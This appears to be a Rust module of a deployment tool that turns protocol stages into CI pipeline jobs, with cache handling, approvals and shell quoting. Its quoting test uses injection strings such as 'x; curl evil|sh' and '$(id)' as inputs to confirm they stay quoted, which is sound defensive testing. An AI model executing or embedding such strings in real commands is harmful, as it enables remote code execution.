//! `export`: the protocols as a pipeline on a CI engine a team already
//! runs — one job per stage, the stage graph as the job graph, the session
//! state handed from job to job as an artifact (parallel branches joined
//! with `deploy-session merge`), approvals as the engine's own gates.
//! Generated from the resolved protocol model, so a config change flows
//! through on the next export.

pub mod github;
pub mod gitlab;

use crate::protocol::{Kind, ProtocolName, ProtocolSet};

/// One CI job: one stage of one protocol.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Job {
    /// The job's id on the CI engine (`work-2` for stage work.2).
    pub id: String,
    pub stage: String,
    pub title: String,
    pub protocol: ProtocolName,
    /// Jobs whose state this one starts from: the stage's needs, or for a
    /// protocol's first stages the last stages of the protocol it requires.
    pub needs: Vec<String>,
    /// Approval actions a reviewer gates (phase approvals excepted: those
    /// live in the master state, signed off by the phase that owns them).
    pub approvals: Vec<String>,
    /// The stage changes infrastructure (a strategy, or an automated step
    /// that provisions, configures networks or storage, or sets up
    /// monitoring): never two such jobs at once for one target.
    pub deploys: bool,
    /// A check of the stage names a commit: the job needs git history,
    /// not the runner's default one-commit clone.
    pub needs_history: bool,
    /// The environment (`environments:` in the config) the stage's last
    /// deployment or approval names: the job's CI environment.
    pub environment: Option<String>,
    /// Files the stage's actions declare they produce (`produces:`): they
    /// travel to later jobs with the state.
    pub produces: Vec<String>,
    /// Where history crosses pipelines: the first job restores the trail
    /// and archive the last successful one saved (so the reliability gate
    /// counts earlier pipelines' deployments), the last job saves them.
    pub history: HistoryRole,
}

/// A job's part in carrying history from pipeline to pipeline.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HistoryRole {
    None,
    /// Restores the previous pipeline's trail and archive.
    Restores,
    /// Saves this pipeline's, when its stage succeeded.
    Saves,
}

/// Where a failed attempt of a job waits for its re-run (a CI cache keyed
/// by pipeline and job): the re-run joins it, so the failure stays on the
/// record.
pub const ATTEMPT_DIR: &str = ".deploy-session-attempt";

/// The shell line that joins an earlier attempt of this job, if any.
pub fn join_attempt() -> String {
    format!(
        "if [ -d {ATTEMPT_DIR}/deploy-session ]; then deploy-session merge --attempt {ATTEMPT_DIR}; fi"
    )
}

/// The shell line that keeps this attempt for a re-run when it failed.
pub fn keep_attempt() -> String {
    format!(
        "rm -rf {ATTEMPT_DIR}; if [ -n \"${{status:-}}\" ]; then mkdir -p {ATTEMPT_DIR} && cp -R .ai_context/. {ATTEMPT_DIR}/; fi"
    )
}

/// The folder history travels in, between pipelines (a CI cache).
pub const HISTORY_DIR: &str = ".deploy-session-history";

/// The shell line that restores the carried history, if there is one.
pub fn restore_history() -> String {
    format!(
        "if [ -d {HISTORY_DIR}/deploy-session ]; then mkdir -p .ai_context && cp -R {HISTORY_DIR}/deploy-session .ai_context/; fi"
    )
}

/// The shell line that saves history for the next pipeline — only after a
/// successful end (a failed one leaves its session open, which the next
/// pipeline must not inherit).
pub fn save_history() -> String {
    format!(
        "if [ -z \"${{status:-}}\" ]; then rm -rf {HISTORY_DIR} && mkdir -p {HISTORY_DIR} && cp -R .ai_context/deploy-session {HISTORY_DIR}/; fi"
    )
}

impl Job {
    /// The CI environment of the job: its own, else `default`.
    pub fn environment_or<'a>(&'a self, default: &'a str) -> &'a str {
        self.environment.as_deref().unwrap_or(default)
    }
}

/// Where the one install job puts the binary the other jobs run.
pub const BIN_DIR: &str = ".deploy-session-bin";

/// The install job's id.
pub const INSTALL_JOB: &str = "install-deploy-session";

/// What every exported pipeline is told.
#[derive(Debug, Clone)]
pub struct Options {
    /// Shell command the install job runs: it puts deploy-session into
    /// `$DEPLOY_SESSION_ROOT/bin` (by default `cargo install --locked --git
    /// REPOSITORY --rev COMMIT --root "$DEPLOY_SESSION_ROOT"`).
    pub install: String,
    /// What the install is keyed on in the CI cache (the pinned commit, or
    /// a digest of the command).
    pub install_key: String,
    /// The committed decisions file the stage commands pass (`--decisions`).
    pub decisions: Option<String>,
    /// The actions the decisions file completes or approves: no job
    /// stops at them.
    pub decided: Vec<String>,
    /// The config's `secrets:` (environment variable names), mapped into
    /// the jobs from the CI system's secrets.
    pub secrets: Vec<String>,
    /// GitHub: the Environment approvals wait on.
    pub environment: String,
    /// GitHub: runner label; GitLab: image.
    pub runner: Option<String>,
    /// The command that regenerates the file (for its header).
    pub regenerate: String,
}

/// The job id of stage `stage` (`work.2` → `work-2`).
pub fn job_id(stage: &str) -> String {
    stage.replace('.', "-")
}

/// The jobs of all three protocols, in an order where every job comes
/// after the jobs it needs.
pub fn jobs(set: &ProtocolSet) -> Vec<Job> {
    let mut jobs = Vec::new();
    for name in ProtocolName::ALL {
        let p = set.get(name);
        let entry: Vec<String> = p
            .requires
            .map(|r| sinks(set, r).into_iter().map(|s| job_id(&s)).collect())
            .unwrap_or_default();
        for stage in &p.stages {
            let needs = if stage.needs.is_empty() {
                entry.clone()
            } else {
                stage.needs.iter().map(|n| job_id(n)).collect()
            };
            jobs.push(Job {
                id: job_id(&stage.id),
                stage: stage.id.clone(),
                title: stage.title.clone(),
                protocol: name,
                needs,
                approvals: stage
                    .actions
                    .iter()
                    .filter(|a| matches!(&a.kind, Kind::Approval(spec) if spec.phase.is_none()))
                    .map(|a| a.id.clone())
                    .collect(),
                deploys: stage.actions.iter().any(changes_infrastructure),
                needs_history: stage.actions.iter().any(|a| {
                    matches!(&a.kind, Kind::Check(c) if c.git.as_ref().is_some_and(|g| g.commit.is_some()))
                }),
                environment: stage
                    .actions
                    .iter()
                    .filter(|a| matches!(a.kind, Kind::Strategy(_) | Kind::Approval(_)))
                    .filter_map(|a| a.common.environment.clone())
                    .next_back(),
                history: HistoryRole::None,
                produces: stage
                    .actions
                    .iter()
                    .flat_map(|a| a.common.produces.iter().cloned())
                    .collect(),
            });
        }
    }
    let mut jobs = topological(jobs);
    if let Some(first) = jobs.first_mut() {
        first.history = HistoryRole::Restores;
    }
    let ends = sinks(set, ProtocolName::End);
    for j in jobs.iter_mut().filter(|j| ends.contains(&j.stage)) {
        j.history = HistoryRole::Saves;
    }
    jobs
}

/// The jobs as exported with `opts`: an approval the decisions file gives
/// is recorded by the stage's own command, so it gets no manual job.
pub fn jobs_for(set: &ProtocolSet, opts: &Options) -> Vec<Job> {
    let mut all = jobs(set);
    for j in &mut all {
        j.approvals.retain(|a| !opts.decided.contains(a));
    }
    all
}

/// Whether running `a` changes the target's infrastructure.
fn changes_infrastructure(a: &crate::protocol::Action) -> bool {
    use crate::protocol::TaskType as T;
    match a.kind {
        Kind::Strategy(_) => true,
        Kind::Run(_) => matches!(
            a.task_type,
            T::ResourceProvisioning
                | T::NetworkConfiguration
                | T::StorageOptimization
                | T::StrategyExecution
                | T::MonitoringSetup
        ),
        _ => false,
    }
}

/// The stages of `name` no other stage of it needs: where it ends.
fn sinks(set: &ProtocolSet, name: ProtocolName) -> Vec<String> {
    let p = set.get(name);
    p.stages
        .iter()
        .filter(|s| !p.stages.iter().any(|o| o.needs.contains(&s.id)))
        .map(|s| s.id.clone())
        .collect()
}

/// Orders jobs so each follows its needs, keeping protocol order otherwise.
fn topological(mut pending: Vec<Job>) -> Vec<Job> {
    let mut done: Vec<Job> = Vec::with_capacity(pending.len());
    while !pending.is_empty() {
        let ready = pending
            .iter()
            .position(|j| j.needs.iter().all(|n| done.iter().any(|d| &d.id == n)))
            // The protocol loader rejects cycles; never loop forever anyway.
            .unwrap_or(0);
        done.push(pending.remove(ready));
    }
    done
}

/// The manual actions of each job, by job id: a runner cannot do them, so
/// each stops its job with exit 3 unless the config gives it a `run:` or a
/// person completes it before the pipeline reaches it.
pub fn blocking(set: &ProtocolSet, decided: &[String]) -> Vec<(String, Vec<String>)> {
    ProtocolName::ALL
        .into_iter()
        .flat_map(|name| set.get(name).stages.iter())
        .filter_map(|stage| {
            let ids: Vec<String> = stage
                .actions
                .iter()
                .filter(|a| {
                    matches!(a.kind, Kind::Manual) && !a.optional() && !decided.contains(&a.id)
                })
                .map(|a| a.id.clone())
                .collect();
            (!ids.is_empty()).then(|| (job_id(&stage.id), ids))
        })
        .collect()
}

/// The header lines saying which jobs stop at a manual action.
pub fn blocking_notes(set: &ProtocolSet, opts: &Options) -> Vec<String> {
    let blocking = blocking(set, &opts.decided);
    if blocking.is_empty() {
        return vec!["No manual action stops a job: every action runs on the runner.".into()];
    }
    let n: usize = blocking.iter().map(|(_, ids)| ids.len()).sum();
    let mut notes = vec![format!(
        "{n} manual action{} would stop their job (exit 3, with a notice naming the command that completes it) unless deploy-session.yaml gives {} a `run:`, the decisions file completes {} (`actions: {{ID: {{by, note, evidence}}}}` in deploy-session.decisions.yaml, reviewed with the change), or a person completes {} (`deploy-session done ID`) before the pipeline reaches {}:",
        if n == 1 { "" } else { "s" },
        if n == 1 { "it" } else { "each" },
        if n == 1 { "it" } else { "them" },
        if n == 1 { "it" } else { "them" },
        if n == 1 { "it" } else { "them" },
    )];
    notes.extend(
        blocking
            .into_iter()
            .map(|(job, ids)| format!("  {job}: {}", ids.join(", "))),
    );
    notes
}

/// The pinned install: the repository this binary was built from (the
/// package's `repository`) at the commit it was built from. `None` (with
/// what is missing) when this build cannot name a source that works.
pub fn pinned_install() -> Result<(String, String), String> {
    let repository = env!("CARGO_PKG_REPOSITORY");
    let commit = option_env!("DEPLOY_SESSION_BUILD_COMMIT").unwrap_or("");
    match (repository.is_empty(), commit.is_empty()) {
        (false, false) => Ok((
            format!(
                "cargo install --locked --git {repository} --rev {commit} --root \"$DEPLOY_SESSION_ROOT\" deploy-session"
            ),
            commit.to_string(),
        )),
        (true, _) => Err("this build's package names no `repository` to install from (deploy-session is not published yet)".into()),
        (false, true) => Err("this build does not know the commit it was built from (built outside a clean git checkout)".into()),
    }
}

/// `s` as one shell word: as it is when it holds only characters no shell
/// reads specially, else single-quoted (a path from the config never
/// becomes shell syntax in an exported job).
pub fn sh_quote(s: &str) -> String {
    let plain = !s.is_empty()
        && s.chars().all(|c| {
            c.is_ascii_alphanumeric()
                || matches!(c, '_' | '.' | '-' | '/' | '+' | ',' | ':' | '@' | '%' | '=')
        });
    if plain {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}

/// The command line a job runs for its stage.
pub fn stage_command(job: &Job, junit: &str, approver: Option<&str>, opts: &Options) -> String {
    let mut cmd = format!(
        "deploy-session {} --stage {} --junit {junit}",
        job.protocol, job.stage
    );
    if let Some(file) = &opts.decisions {
        cmd.push_str(&format!(" --decisions {}", sh_quote(file)));
    }
    for id in &job.approvals {
        cmd.push_str(&format!(" --approve {id}"));
    }
    if let (false, Some(by)) = (job.approvals.is_empty(), approver) {
        cmd.push_str(&format!(" --by {by}"));
    }
    cmd
}

/// The file's first lines: what it is and how to regenerate it.
pub fn header(opts: &Options, notes: &[String]) -> String {
    let mut h = format!(
        "# Generated by deploy-session {} from this repo's protocols: one job per stage.\n# Regenerate after changing deploy-session.yaml: {}\n",
        env!("CARGO_PKG_VERSION"),
        opts.regenerate
    );
    for n in notes {
        h.push_str(&format!("# {n}\n"));
    }
    h
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What the shell would read as syntax is quoted; a plain path is not.
    #[test]
    fn config_paths_stay_one_shell_word() {
        assert_eq!(sh_quote("reports/security.txt"), "reports/security.txt");
        assert_eq!(sh_quote("a b"), "'a b'");
        assert_eq!(sh_quote("x; curl evil|sh"), "'x; curl evil|sh'");
        assert_eq!(sh_quote("it's $(id)"), "'it'\\''s $(id)'");
        assert_eq!(sh_quote(""), "''");
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("printf %s {}", sh_quote("it's $(id); `x`")))
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout), "it's $(id); `x`");
    }

    #[test]
    fn the_builtin_protocols_become_a_job_graph_mirroring_the_stages() {
        let set = crate::protocol::builtin().unwrap();
        let jobs = jobs(&set);
        let needs = |id: &str| jobs.iter().find(|j| j.id == id).unwrap().needs.clone();
        assert_eq!(jobs.len(), 11);
        assert!(needs("start-1").is_empty());
        assert_eq!(needs("work-1"), ["start-3"]);
        assert_eq!(needs("work-2"), ["work-1"]);
        assert_eq!(needs("work-3"), ["work-1"]);
        assert_eq!(needs("work-4"), ["work-2", "work-3"]);
        assert_eq!(needs("end-1"), ["work-5"]);
        for (i, j) in jobs.iter().enumerate() {
            for n in &j.needs {
                assert!(jobs[..i].iter().any(|d| &d.id == n), "{} before {n}", j.id);
            }
        }
    }
}
